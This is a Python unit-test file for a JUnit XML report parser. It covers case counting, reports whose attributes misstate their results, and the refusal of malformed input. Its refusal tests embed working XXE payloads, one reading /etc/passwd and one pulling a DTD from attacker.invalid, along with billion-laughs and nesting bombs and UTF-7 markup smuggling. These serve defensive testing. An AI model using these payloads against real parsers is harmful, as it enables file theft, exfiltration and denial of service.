"""Unit tests for sentinel_domain.junit (DOMAIN.md rule 8: evidence outcomes), on small hand-written
reports."""

from __future__ import annotations

import dataclasses
import time

import pytest

from sentinel_domain.junit import (
    MAX_BYTES,
    MAX_DEPTH,
    JUnitSummary,
    JUnitTooLarge,
    MalformedJUnit,
    parse_junit,
)


def summary(tests: int, failures: int, errors: int, skipped: int, outcome: str) -> JUnitSummary:
    return JUnitSummary(tests=tests, failures=failures, errors=errors, skipped=skipped, outcome=outcome)


def nested(depth: int) -> str:
    """A report whose deepest element sits at `depth` (the root <testsuites> is at depth 1)."""
    inner = depth - 1
    return "<testsuites>" + "<testsuite>" * inner + "</testsuite>" * inner + "</testsuites>"


# --- the contract itself -------------------------------------------------------------------------


def test_summary_is_frozen_and_malformed_is_a_value_error():
    # Given a summary
    result = parse_junit('<testsuite><testcase name="a"/></testsuite>')
    # When someone tries to change it, Then it refuses
    with pytest.raises(dataclasses.FrozenInstanceError):
        result.tests = 99  # type: ignore[misc]  # the very assignment a frozen summary refuses
    # And MalformedJUnit can be caught as a ValueError
    assert issubclass(MalformedJUnit, ValueError)


# --- counting and outcomes -----------------------------------------------------------------------


def test_all_passing_cases_give_pass():
    # Given a suite of three test cases with no failure, error or skip
    xml = '<testsuite><testcase name="a"/><testcase name="b"></testcase><testcase name="c"/></testsuite>'
    # When it is parsed
    result = parse_junit(xml)
    # Then all three executed and passed
    assert result == summary(3, 0, 0, 0, "pass")


def test_each_kind_of_case_is_counted_once():
    # Given one passing, one failing, one erroring and one skipped case
    xml = """<testsuites><testsuite>
        <testcase name="ok"/>
        <testcase name="bad"><failure message="boom">trace</failure></testcase>
        <testcase name="crash"><error type="E"/></testcase>
        <testcase name="later"><skipped/></testcase>
    </testsuite></testsuites>"""
    # When it is parsed
    result = parse_junit(xml)
    # Then skipped is not executed, and the failure makes the outcome fail
    assert result == summary(3, 1, 1, 1, "fail")


def test_summary_attributes_that_lie_are_ignored():
    # Given a suite whose attributes claim 100 tests and no failures, but which holds one failing case
    xml = """<testsuites tests="100" failures="0" errors="0" skipped="0">
      <testsuite tests="100" failures="0" errors="0" skipped="0">
        <testcase name="only"><failure/></testcase>
      </testsuite></testsuites>"""
    # When it is parsed
    result = parse_junit(xml)
    # Then the counts come from the test case
    assert result == summary(1, 1, 0, 0, "fail")


def test_attributes_claiming_failures_do_not_fail_a_passing_report():
    # Given a suite claiming 5 failures and 3 errors whose two cases both passed
    xml = '<testsuite tests="2" failures="5" errors="3"><testcase/><testcase/></testsuite>'
    # When it is parsed, Then it passes
    assert parse_junit(xml) == summary(2, 0, 0, 0, "pass")


def test_flaky_failure_and_flaky_error_count_as_passed():
    # Given Surefire cases that failed, then passed on rerun
    xml = """<testsuite>
      <testcase name="f"><flakyFailure message="1st"><stackTrace>x</stackTrace></flakyFailure>
                         <flakyFailure message="2nd"/></testcase>
      <testcase name="e"><flakyError message="1st"/></testcase>
    </testsuite>"""
    # When it is parsed
    result = parse_junit(xml)
    # Then both count as passed
    assert result == summary(2, 0, 0, 0, "pass")


def test_rerun_failure_with_failure_stays_failed():
    # Given a Surefire case that failed on the first run and on every rerun
    xml = """<testsuite><testcase name="t">
        <failure message="first"/>
        <rerunFailure message="rerun 1"/>
        <rerunFailure message="rerun 2"/>
    </testcase></testsuite>"""
    # When it is parsed
    result = parse_junit(xml)
    # Then it is one failed case (not three)
    assert result == summary(1, 1, 0, 0, "fail")


def test_rerun_error_with_error_stays_errored():
    # Given a Surefire case that errored on every run
    xml = "<testsuite><testcase><error/><rerunError/></testcase></testsuite>"
    # When it is parsed, Then it is one errored case
    assert parse_junit(xml) == summary(1, 0, 1, 0, "fail")


def test_rerun_failure_alone_still_fails():
    # Given a case carrying only rerun markers (no final <failure>/<error>)
    xml = (
        '<testsuite><testcase name="a"><rerunFailure/></testcase>'
        '<testcase name="b"><rerunError/></testcase></testsuite>'
    )
    # When it is parsed, Then they are still failed and errored (fail closed)
    assert parse_junit(xml) == summary(2, 1, 1, 0, "fail")


def test_flaky_and_final_failure_is_failed():
    # Given a case with flaky reruns but a final failure
    xml = "<testsuite><testcase><flakyFailure/><failure/></testcase></testsuite>"
    # When it is parsed, Then it failed
    assert parse_junit(xml) == summary(1, 1, 0, 0, "fail")


def test_failure_wins_over_skipped_and_error_within_one_case():
    # Given cases carrying several markers at once
    xml = """<testsuite>
      <testcase name="skip-and-fail"><skipped/><failure/></testcase>
      <testcase name="fail-and-error"><error/><failure/></testcase>
      <testcase name="skip-and-error"><skipped/><error/></testcase>
    </testsuite>"""
    # When it is parsed
    result = parse_junit(xml)
    # Then each case counts once: failure beats error, and both beat skipped
    assert result == summary(3, 2, 1, 0, "fail")


@pytest.mark.parametrize("marker", ["Failure", "FAILURE", "RerunFailure", "Error", "rerunERROR"])
def test_markers_are_recognised_whatever_their_case(marker):
    # Given a case whose failure or error element is written with other capitals
    xml = f"<testsuite><testcase><{marker}/></testcase><testcase/></testsuite>"
    # When it is parsed, Then the case did not pass (fail closed on a producer's spelling)
    result = parse_junit(xml)
    assert result.outcome == "fail" and result.failures + result.errors == 1, result


@pytest.mark.parametrize(
    ("attributes", "expected"),
    [
        ('status="failed"', summary(1, 1, 0, 0, "fail")),
        ('result="FAILURE"', summary(1, 1, 0, 0, "fail")),
        ('status="error"', summary(1, 0, 1, 0, "fail")),
        ('status="notrun"', summary(0, 0, 0, 1, "unknown")),
        ('result="skipped"', summary(0, 0, 0, 1, "unknown")),
        ('status="disabled"', summary(0, 0, 0, 1, "unknown")),
        ('status="run" result="completed"', summary(1, 0, 0, 0, "pass")),
        ('status="passed"', summary(1, 0, 0, 0, "pass")),
        ('status="whatever"', summary(1, 0, 0, 0, "pass")),
    ],
)
def test_a_cases_own_status_attribute_can_only_make_it_worse(attributes, expected):
    # Given a case with no child markers but a status or result attribute (Bazel, CTest, xunit writers)
    xml = f'<testsuite><testcase name="t" {attributes}/></testsuite>'
    # When it is parsed, Then a failing or not-run word counts, and nothing else changes the case
    assert parse_junit(xml) == expected


def test_a_status_attribute_on_one_case_among_thousands_still_counts():
    # Given a large report in which only the last case carries a failing status, spaced around its "="
    cases = "".join(f'<testcase name="t{i}"/>' for i in range(3_000))
    xml = f'<testsuite>{cases}<testcase name="last" status = "failed"/></testsuite>'
    # When it is parsed, Then that case failed
    assert parse_junit(xml) == summary(3_001, 1, 0, 0, "fail")


def test_the_words_status_and_result_elsewhere_change_nothing():
    # Given passing cases whose names, text and other attributes say "status" and "result"
    xml = (
        '<testsuite name="status"><testcase name="status=failed" classname="result"><system-out>'
        'status="failed" result="error"</system-out></testcase><status/></testsuite>'
    )
    # When it is parsed, Then the case passed
    assert parse_junit(xml) == summary(1, 0, 0, 0, "pass")


def test_a_passing_status_never_hides_a_failure_marker():
    # Given a case that claims to have passed but carries a <failure>
    xml = '<testsuite><testcase status="passed" result="completed"><failure/></testcase></testsuite>'
    # When it is parsed, Then the marker wins
    assert parse_junit(xml) == summary(1, 1, 0, 0, "fail")


def test_a_not_run_status_does_not_hide_a_failure_marker():
    # Given a case marked not run that nevertheless carries an <error>
    xml = '<testsuite><testcase status="skipped"><error/></testcase></testsuite>'
    # When it is parsed, Then it errored
    assert parse_junit(xml) == summary(1, 0, 1, 0, "fail")


def test_failure_hidden_deeper_inside_a_case_still_fails_it():
    # Given a failure wrapped in another element inside the test case
    xml = "<testsuite><testcase><wrapper><failure/></wrapper></testcase></testsuite>"
    # When it is parsed, Then the case failed
    assert parse_junit(xml) == summary(1, 1, 0, 0, "fail")


def test_testcase_inside_testcase_is_folded_into_the_outer_one():
    # Given a (non-standard) test case nested in another, the inner one failing
    xml = (
        '<testsuite><testcase name="outer"><testcase name="inner">'
        "<failure/></testcase></testcase></testsuite>"
    )
    # When it is parsed, Then it is one failed case
    assert parse_junit(xml) == summary(1, 1, 0, 0, "fail")


def test_suite_level_failure_fails_the_report():
    # Given a suite with a passing case and a <failure> directly inside the suite
    xml = '<testsuite><testcase/><failure message="setup failed"/></testsuite>'
    # When it is parsed
    result = parse_junit(xml)
    # Then the failure is counted and the outcome is fail, while tests counts only the case
    assert result == summary(1, 1, 0, 0, "fail")


def test_suite_level_error_in_a_nested_suite_without_cases_fails_the_report():
    # Given three levels of suites, the deepest holding only an <error> (Jenkins fixture shape)
    xml = """<testsuites tests="186"><testsuite name="L1">
        <testsuite name="L2a"><testcase name="x"/></testsuite>
        <testsuite name="L2b">
          <testsuite name="L3" errors="1" tests="1"><error message="bla"/></testsuite>
          <testcase name="y"/>
        </testsuite>
    </testsuite></testsuites>"""
    # When it is parsed, Then two cases passed but the suite-level error fails it
    assert parse_junit(xml) == summary(2, 0, 1, 0, "fail")


def test_suite_level_error_with_no_cases_at_all_is_fail_not_unknown():
    # Given a suite that only carries an <error> (e.g. the class failed to load)
    xml = '<testsuites><testsuite><error message="class init"/></testsuite></testsuites>'
    # When it is parsed, Then fail wins over unknown
    assert parse_junit(xml) == summary(0, 0, 1, 0, "fail")


def test_failure_directly_under_testsuites_root_fails():
    # Given a <failure> directly inside the <testsuites> root
    xml = "<testsuites><testsuite><testcase/></testsuite><failure/></testsuites>"
    # When it is parsed, Then it fails
    assert parse_junit(xml) == summary(1, 1, 0, 0, "fail")


def test_suite_level_skipped_and_flaky_do_not_count():
    # Given <skipped> and <flakyFailure> outside any test case
    xml = "<testsuite><skipped/><flakyFailure/><testcase/></testsuite>"
    # When it is parsed, Then only the test case counts
    assert parse_junit(xml) == summary(1, 0, 0, 0, "pass")


def test_nested_suites_at_any_depth_are_counted():
    # Given cases spread over suites nested at several depths, beside sibling cases (PHPUnit shape)
    xml = """<testsuites><testsuite>
        <testcase name="top"/>
        <testsuite><testsuite><testsuite><testcase name="deep"><skipped/></testcase></testsuite></testsuite>
          <testcase name="mid"/></testsuite>
    </testsuite></testsuites>"""
    # When it is parsed, Then every case is found
    assert parse_junit(xml) == summary(2, 0, 0, 1, "pass")


def test_testcase_directly_under_testsuites_counts():
    # Given a case directly under the <testsuites> root
    xml = "<testsuites><testcase/></testsuites>"
    # When it is parsed, Then it counts
    assert parse_junit(xml) == summary(1, 0, 0, 0, "pass")


def test_pytest_xfail_reported_as_skipped_counts_as_skipped():
    # Given pytest's xfail, which it writes as <skipped type="pytest.xfail">
    xml = """<testsuites><testsuite>
        <testcase name="ok"/>
        <testcase name="xf"><skipped type="pytest.xfail" message=""/></testcase>
    </testsuite></testsuites>"""
    # When it is parsed, Then xfail is skipped and the one real case passes
    assert parse_junit(xml) == summary(1, 0, 0, 1, "pass")


def test_only_skipped_cases_give_unknown():
    # Given a report where every case was skipped
    xml = '<testsuite tests="2"><testcase><skipped/></testcase><testcase><skipped/></testcase></testsuite>'
    # When it is parsed, Then nothing executed: unknown, never pass
    assert parse_junit(xml) == summary(0, 0, 0, 2, "unknown")


@pytest.mark.parametrize(
    "xml",
    [
        "<testsuites/>",
        "<testsuites></testsuites>",
        '<?xml version="1.0" encoding="UTF-8"?>\n<testsuites/>\n',
        '<testsuite tests="5"/>',
        '<testsuites tests="10"><testsuite name="Root Suite" tests="0"></testsuite></testsuites>',
    ],
)
def test_no_cases_give_unknown(xml):
    # Given a report with no test cases at all
    # When it is parsed
    result = parse_junit(xml)
    # Then the outcome is unknown with all counts zero
    assert result == summary(0, 0, 0, 0, "unknown")


def test_namespaced_elements_are_read_by_local_name():
    # Given a report whose elements carry a namespace prefix
    xml = '<j:testsuite xmlns:j="urn:x"><j:testcase><j:failure/></j:testcase><j:testcase/></j:testsuite>'
    # When it is parsed, Then the prefix changes nothing
    assert parse_junit(xml) == summary(2, 1, 0, 0, "fail")


def test_element_names_inside_text_and_cdata_are_not_elements():
    # Given failure markup that is only text (escaped, and inside CDATA) in system-out
    xml = """<testsuite><testcase><system-out>&lt;failure/&gt; <![CDATA[<error/><testcase/>]]></system-out>
    </testcase></testsuite>"""
    # When it is parsed, Then the case passed and no phantom case exists
    assert parse_junit(xml) == summary(1, 0, 0, 0, "pass")


def test_comments_processing_instructions_and_predefined_entities_are_fine():
    # Given comments and a PI around the root, predefined entities and character references
    xml = """<?xml version="1.0"?>
<!-- Generated by org.testng.reporters.JUnitReportReporter -->
<?xml-stylesheet href="x.xsl"?>
<testsuite name="&lt;root&gt; &amp; &#233; &#x1F60B;"><testcase name="it&apos;s &quot;ok&quot;"/></testsuite>
<!-- trailing comment -->
"""
    # When it is parsed, Then it passes
    assert parse_junit(xml) == summary(1, 0, 0, 0, "pass")


def test_non_ascii_and_astral_characters_are_fine():
    # Given names and messages outside the BMP and in CJK/Hangul
    xml = (
        '<testsuite><testcase name="테스트 𒍺 𡓿">'
        '<failure message="ñandú 😋">𠄉</failure></testcase></testsuite>'
    )
    # When it is parsed, Then it is read normally
    assert parse_junit(xml) == summary(1, 1, 0, 0, "fail")


# --- the text and its XML declaration ------------------------------------------------------------


def test_declared_iso_8859_1_encoding_in_a_str_is_handled():
    # Given a str (already decoded) whose declaration still says ISO-8859-1, with non-Latin-1 text
    xml = '<?xml version="1.0" encoding="ISO-8859-1"?>\n<testsuite><testcase name="é – 😋"/></testsuite>'
    # When it is parsed, Then the declaration is ignored and nothing crashes
    assert parse_junit(xml) == summary(1, 0, 0, 0, "pass")


@pytest.mark.parametrize("declared", ["utf-8", "UTF8", "US-ASCII", "latin-1", "ISO-8859-15", "windows-1252"])
def test_a_declared_encoding_in_which_the_markup_reads_the_same_is_accepted(declared):
    # Given a str whose declaration names UTF-8 or an ASCII-compatible single-byte charset
    xml = f'<?xml version="1.0" encoding="{declared}" standalone="yes"?><testsuite><testcase/></testsuite>'
    # When it is parsed, Then the text is read as the text it is
    assert parse_junit(xml) == summary(1, 0, 0, 0, "pass")


@pytest.mark.parametrize("declared", ["UTF-16", "utf-16le", "UTF-32", "UTF-7", "cp037", "x-unknown-charset"])
def test_a_declared_encoding_that_would_read_other_markup_is_refused(declared):
    # Given a str (read as UTF-8) whose declaration claims an encoding in which those bytes are other markup:
    # a UTF-7 reader would turn "+ADw-failure/+AD4-" into a <failure/> this parser never sees
    xml = (
        f'<?xml version="1.0" encoding="{declared}"?><testsuite><testcase>+ADw-failure/+AD4-</testcase>'
        "</testsuite>"
    )
    # When it is parsed, Then it is refused, naming the declared encoding
    refused(xml, "declares the encoding", declared)


def test_leading_byte_order_mark_is_accepted():
    # Given text that kept its BOM when decoded
    xml = '\ufeff<?xml version="1.0" encoding="UTF-8"?><testsuite><testcase/></testsuite>'
    # When it is parsed, Then it is read normally
    assert parse_junit(xml) == summary(1, 0, 0, 0, "pass")


# --- refusals ------------------------------------------------------------------------------------


def refused(xml, *words: str) -> str:
    with pytest.raises(MalformedJUnit) as caught:
        parse_junit(xml)
    message = str(caught.value)
    assert message.startswith("JUnit XML"), message
    for word in words:
        assert word in message, message
    return message


def test_dtd_is_refused():
    # Given a harmless-looking DOCTYPE
    xml = "<!DOCTYPE testsuite><testsuite><testcase/></testsuite>"
    # When it is parsed, Then it is refused because of the DTD
    refused(xml, "DOCTYPE")


def test_dtd_with_internal_subset_and_entity_is_refused():
    # Given an internal entity declaration
    xml = '<!DOCTYPE testsuite [<!ENTITY name "pass">]><testsuite name="&name;"><testcase/></testsuite>'
    # When it is parsed, Then it is refused
    refused(xml, "DOCTYPE")


def test_external_entity_is_refused():
    # Given a classic XXE reading a local file
    xml = """<?xml version="1.0"?>
<!DOCTYPE testsuite [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<testsuite><testcase name="&xxe;"/></testsuite>"""
    # When it is parsed, Then it is refused before anything is resolved
    refused(xml, "DOCTYPE")


def test_external_parameter_entity_is_refused():
    # Given an out-of-band XXE through an external parameter entity
    xml = """<?xml version="1.0" encoding="ISO-8859-1"?>
<!DOCTYPE r [<!ENTITY % sp SYSTEM "http://attacker.invalid/evil.dtd"> %sp; ]>
<testsuite><testcase/></testsuite>"""
    # When it is parsed, Then it is refused
    refused(xml, "DOCTYPE")


def test_external_dtd_reference_is_refused():
    # Given a DOCTYPE pointing at an external DTD
    xml = '<!DOCTYPE testsuite SYSTEM "http://attacker.invalid/junit.dtd"><testsuite/>'
    # When it is parsed, Then it is refused
    refused(xml, "DOCTYPE")


def test_billion_laughs_is_refused_quickly():
    # Given the billion-laughs entity expansion bomb
    lol = ['<!ENTITY lol "lol">']
    for i in range(1, 10):
        previous = "lol" if i == 1 else f"lol{i - 1}"
        lol.append(f'<!ENTITY lol{i} "{("&" + previous + ";") * 10}">')
    xml = '<?xml version="1.0"?>\n<!DOCTYPE testsuite [' + "".join(lol) + ']>\n<testsuite name="&lol9;"/>'
    # When it is parsed
    started = time.perf_counter()
    refused(xml, "DOCTYPE")
    # Then it is refused without expanding anything
    assert time.perf_counter() - started < 1.0


def test_undefined_entity_is_refused():
    # Given an entity reference with no declaration (the Jenkins XXE fixture's &oob;)
    xml = "<testsuite><testcase>&oob;</testcase></testsuite>"
    # When it is parsed, Then it is refused as not well-formed
    refused(xml, "not well-formed", "undefined entity")


def test_depth_of_exactly_256_is_accepted():
    # Given elements nested exactly MAX_DEPTH (256) deep, the root counting as depth 1
    assert MAX_DEPTH == 256
    xml = nested(256)
    # When it is parsed, Then it is accepted (no cases: unknown)
    assert parse_junit(xml) == summary(0, 0, 0, 0, "unknown")


def test_depth_of_256_with_a_case_at_the_bottom_is_counted():
    # Given a test case that is itself the 256th level
    xml = "<testsuites>" + "<testsuite>" * 254 + "<testcase/>" + "</testsuite>" * 254 + "</testsuites>"
    # When it is parsed, Then it counts
    assert parse_junit(xml) == summary(1, 0, 0, 0, "pass")


def test_depth_of_257_is_refused():
    # Given elements nested one level too deep
    xml = nested(257)
    # When it is parsed, Then it is refused, saying why
    refused(xml, "256")


def test_depth_257_inside_a_testcase_is_refused():
    # Given the excess depth hidden inside a test case's output
    xml = (
        "<testsuite><testcase><system-out>"
        + "<x>" * 254
        + "</x>" * 254
        + "</system-out></testcase></testsuite>"
    )
    # When it is parsed, Then it is refused
    refused(xml, "256")


def test_very_deep_nesting_is_refused_quickly_without_reading_to_the_end():
    # Given a nesting bomb of 150,000 levels, just under the size limit
    xml = "<testsuites>" + "<testsuite>" * 150_000
    assert len(xml) < MAX_BYTES
    # When it is parsed
    started = time.perf_counter()
    refused(xml, "256")
    # Then the refusal is fast
    assert time.perf_counter() - started < 2.0


def test_a_report_over_the_size_limit_is_refused_as_too_large_before_parsing():
    # Given a million-level nesting bomb of 11 MB
    xml = "<testsuites>" + "<testsuite>" * 1_000_000
    # When it is parsed
    started = time.perf_counter()
    with pytest.raises(JUnitTooLarge) as caught:
        parse_junit(xml)
    # Then it is refused for its size (PAYLOAD_TOO_LARGE), which is also a MalformedJUnit, without parsing
    assert "bytes" in str(caught.value) and isinstance(caught.value, MalformedJUnit)
    assert time.perf_counter() - started < 0.5


def test_a_report_of_exactly_the_size_limit_is_read():
    # Given a passing report padded with output to exactly MAX_BYTES bytes of UTF-8 (é is two bytes)
    head, tail = '<testsuite><testcase name="a"><system-out>', "</system-out></testcase></testsuite>"
    room = MAX_BYTES - len(head) - len(tail)
    xml = head + "é" * (room // 2) + "x" * (room % 2) + tail
    assert len(xml.encode("utf-8")) == MAX_BYTES
    # When it is parsed, Then it is read; one byte more is too large
    assert parse_junit(xml) == summary(1, 0, 0, 0, "pass")
    with pytest.raises(JUnitTooLarge):
        parse_junit(xml.replace("<testcase", "<testcase "))


def test_nul_character_is_refused():
    # Given a report containing a NUL character
    xml = '<testsuite><testcase name="a\x00b"/></testsuite>'
    # When it is parsed, Then it is refused, saying NUL
    refused(xml, "NUL")


@pytest.mark.parametrize("xml", ["", "   ", "\n\t\r\n"])
def test_empty_text_is_refused(xml):
    # Given nothing but (maybe) whitespace
    # When it is parsed, Then it is refused as empty
    refused(xml, "empty")


def test_truncated_report_is_refused():
    # Given a report cut off mid-element, as when a CI job is killed
    xml = '<?xml version="1.0"?><testsuites><testsuite name="p"><testcase name="a"/><testcase name="b">'
    # When it is parsed, Then it is refused as not well-formed
    refused(xml, "not well-formed")


def test_report_cut_inside_a_tag_is_refused():
    # Given a report cut inside an attribute value
    refused('<testsuite><testcase name="ab', "not well-formed")


@pytest.mark.parametrize(
    "xml",
    [
        "this is not XML at all",
        '{"tests": 3, "failures": 0}',
        "PASSED 3 tests",
        "<",
        "<testsuite><testcase></testsuite>",
    ],
)
def test_non_xml_is_refused(xml):
    # Given text that is not well-formed XML
    # When it is parsed, Then it is refused
    refused(xml, "not well-formed")


def test_junk_after_root_is_refused():
    # Given a complete report followed by a fragment of another one (parallel writers)
    xml = '<testsuite><testcase/></testsuite>\n<testcase name="x"/></testsuite>'
    # When it is parsed, Then it is refused: a lenient reader would see only the first part
    refused(xml, "not well-formed", "junk after document element")


def test_two_root_elements_are_refused():
    # Given two reports concatenated
    refused("<testsuite><testcase/></testsuite><testsuite><testcase><failure/></testcase></testsuite>")


def test_merge_conflict_markers_are_refused():
    # Given a committed report with unresolved merge conflict markers
    xml = """<?xml version="1.0" encoding="UTF-8"?>
<<<<<<< HEAD
<testsuite name="JUnit Jupiter" tests="1">
=======
<testsuite name="JUnit Jupiter" tests="2">
>>>>>>> feature
<testcase name="a"/>
</testsuite>"""
    # When it is parsed, Then it is refused as not well-formed
    refused(xml, "not well-formed")


@pytest.mark.parametrize("root", ["testcase", "testsuitesx", "TestSuite", "html", "results"])
def test_root_other_than_testsuites_or_testsuite_is_refused(root):
    # Given a well-formed document with the wrong root element
    xml = f"<{root}><testcase/></{root}>"
    # When it is parsed, Then it is refused, naming the root found
    refused(xml, "root element", f"<{root}>")


def test_lone_surrogate_is_refused():
    # Given text holding a lone surrogate (possible from a JSON "\\ud800" escape)
    xml = '<testsuite><testcase name="a\ud800"/></testsuite>'
    # When it is parsed, Then it is refused rather than crashing
    refused(xml, "Unicode")


def test_invalid_xml_character_is_refused():
    # Given a control character XML forbids
    refused('<testsuite><testcase name="a\x01"/></testsuite>', "not well-formed")


def test_encoding_name_that_is_not_an_xml_name_is_refused():
    # Given a declaration whose encoding name contains a space (xunit-viewer's "UTF-16 LE")
    xml = '<?xml version="1.0" encoding="UTF-16 LE"?><testsuite><testcase/></testsuite>'
    # When it is parsed, Then it is refused for the encoding it claims
    refused(xml, "declares the encoding")


def test_a_utf_8_declaration_with_a_malformed_name_is_still_not_well_formed():
    # Given a declaration whose (allowed) encoding is followed by junk the XML grammar forbids
    xml = '<?xml version="1.0" encoding="UTF-8" junk?><testsuite><testcase/></testsuite>'
    # When it is parsed, Then expat refuses the declaration
    refused(xml, "not well-formed")


@pytest.mark.parametrize("value", [b"<testsuite/>", None, 42])
def test_anything_but_text_is_refused(value):
    # Given input that is not a str
    # When it is parsed, Then it is refused rather than guessed at
    refused(value, "text")


# --- speed ---------------------------------------------------------------------------------------


def test_a_large_report_parses_fast():
    # Given 20,000 test cases with output, some failing and skipped
    cases = []
    for i in range(20_000):
        body = "<skipped/>" if i % 100 == 1 else "<failure>x</failure>" if i == 7 else ""
        cases.append(
            f'<testcase classname="c{i % 50}" name="t{i}"><system-out>line {i}</system-out>{body}</testcase>'
        )
    xml = "<testsuites><testsuite>" + "".join(cases) + "</testsuite></testsuites>"
    # When it is parsed
    started = time.perf_counter()
    result = parse_junit(xml)
    elapsed = time.perf_counter() - started
    # Then the counts are right and it took well under a second
    assert result == summary(19_800, 1, 0, 200, "fail")
    assert elapsed < 1.0, elapsed
